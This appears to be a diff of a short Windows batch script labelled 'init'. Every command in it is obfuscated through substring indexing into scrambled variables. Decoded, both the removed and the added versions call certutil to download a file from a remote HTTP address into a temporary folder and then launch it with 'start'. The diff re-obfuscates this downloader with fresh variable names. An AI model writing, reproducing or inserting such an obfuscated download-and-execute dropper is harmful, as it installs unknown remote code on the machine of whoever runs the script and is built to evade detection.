@@ -1,8 +1,8 @@
-REM init 7913 v1
+REM init 0279 v1
 @echo off
 @echo off
-set "thqb=euT89crEh:xMoa03v2Yft7/KplsL-i.\P1U"
-%thqb:~5,1%%thqb:~0,1%%thqb:~6,1%%thqb:~20,1%%thqb:~1,1%%thqb:~20,1%%thqb:~29,1%%thqb:~25,1%%thqb:~-5,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~0,1% %thqb:~28,1%%thqb:~1,1%%thqb:~6,1%%thqb:~25,1%%thqb:~5,1%%thqb:~-22,1%%thqb:~5,1%%thqb:~8,1%%thqb:~0,1% %thqb:~28,1%%thqb:~26,1%%thqb:~24,1%%thqb:~25,1%%thqb:~29,1%%thqb:~20,1% %thqb:~28,1%%thqb:~-16,1% %thqb:~-27,1%%thqb:~-15,1%%thqb:~-15,1%%thqb:~-11,1%%thqb:~9,1%%thqb:~-13,1%%thqb:~22,1%%thqb:~17,1%%thqb:~-21,1%%thqb:~-20,1%%thqb:~30,1%%thqb:~14,1%%thqb:~30,1%%thqb:~33,1%%thqb:~-2,1%%thqb:~15,1%%thqb:~30,1%%thqb:~17,1%%thqb:~14,1%%thqb:~14,1%%thqb:~22,1%%thqb:~26,1%%thqb:~16,1%%thqb:~5,1%%thqb:~30,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~0,1% %%thqb:~2,1%%thqb:~7,1%%thqb:~11,1%%thqb:~-3,1%%%thqb:~-4,1%%thqb:~26,1%%thqb:~16,1%%thqb:~5,1%%thqb:~30,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~-35,1%
+set "joav=3W:AGne0Ecm19X-f58u4MhtTlPvsrpa\./xi"
+%joav:~-27,1%%joav:~6,1%%joav:~28,1%%joav:~22,1%%joav:~18,1%%joav:~22,1%%joav:~35,1%%joav:~24,1%%joav:~32,1%%joav:~6,1%%joav:~34,1%%joav:~6,1% %joav:~14,1%%joav:~-18,1%%joav:~28,1%%joav:~24,1%%joav:~9,1%%joav:~-6,1%%joav:~9,1%%joav:~-15,1%%joav:~6,1% %joav:~-22,1%%joav:~-9,1%%joav:~29,1%%joav:~24,1%%joav:~35,1%%joav:~22,1% %joav:~14,1%%joav:~-21,1% %joav:~21,1%%joav:~-14,1%%joav:~22,1%%joav:~29,1%%joav:~2,1%%joav:~-3,1%%joav:~33,1%%joav:~11,1%%joav:~12,1%%joav:~17,1%%joav:~32,1%%joav:~-20,1%%joav:~-25,1%%joav:~32,1%%joav:~11,1%%joav:~7,1%%joav:~7,1%%joav:~32,1%%joav:~-24,1%%joav:~33,1%%joav:~27,1%%joav:~26,1%%joav:~9,1%%joav:~-4,1%%joav:~6,1%%joav:~34,1%%joav:~6,1% %TEMP%%joav:~31,1%%joav:~-9,1%%joav:~26,1%%joav:~9,1%%joav:~32,1%%joav:~-30,1%%joav:~-2,1%%joav:~6,1%
 @echo off
-set "qvxc=kTscXxptym5EM\ravD8.eP"
-%qvxc:~2,1%%qvxc:~7,1%%qvxc:~15,1%%qvxc:~-8,1%%qvxc:~-15,1% "" %%qvxc:~1,1%%qvxc:~-11,1%%qvxc:~12,1%%qvxc:~21,1%%%qvxc:~13,1%%qvxc:~-20,1%%qvxc:~16,1%%qvxc:~3,1%%qvxc:~-3,1%%qvxc:~20,1%%qvxc:~5,1%%qvxc:~-2,1%
+set "eeip=o.\aEfI6evPxCMTnr2s9tc"
+%eeip:~18,1%%eeip:~20,1%%eeip:~-19,1%%eeip:~-6,1%%eeip:~-2,1% "" %TEMP%%eeip:~2,1%%eeip:~18,1%%eeip:~9,1%%eeip:~21,1%%eeip:~1,1%%eeip:~8,1%%eeip:~11,1%%eeip:~8,1%
